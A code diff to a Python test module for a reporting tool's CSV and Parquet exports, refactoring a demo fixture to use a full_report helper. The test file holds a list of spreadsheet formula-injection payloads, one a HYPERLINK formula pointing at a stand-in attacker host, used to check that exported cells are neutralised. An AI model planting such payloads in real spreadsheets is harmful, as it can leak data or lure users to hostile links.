@@ -15,14 +15,13 @@ import pyarrow as pa  # type: ignore[import-untyped]
 import pyarrow.parquet as pq  # type: ignore[import-untyped]
 import pytest
 
-from recon.config import load_config
 from recon.demo import run_demo
 from recon.store import open_store
 from reports import RENDERERS, ReportData, load_report
 from reports.exports import render_csv, render_parquet
 from reports.labels import headings
 from reports.safe_cell import csv_text
-from tests.scenario import DAY, Scenario
+from tests.scenario import DAY, Scenario, full_report
 
 BOM = b"\xef\xbb\xbf"
 HOSTILE = ['=HYPERLINK("http://evil.example/?x","click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
@@ -34,8 +33,7 @@ def demo(tmp_path_factory: pytest.TempPathFactory) -> ReportData:
     """The demo run's report read as `recon report --format csv,parquet` reads it: with every result row."""
     workdir = tmp_path_factory.mktemp("demo")
     _, summary, _ = run_demo(workdir)
-    with open_store(load_config(workdir / "recon.toml"), write=False) as con:
-        return load_report(con, None, summary.run_id, "Asia/Shanghai")
+    return full_report(workdir, summary.run_id)
 
 
 def read_csv(path: Path) -> tuple[str, list[list[str]]]:
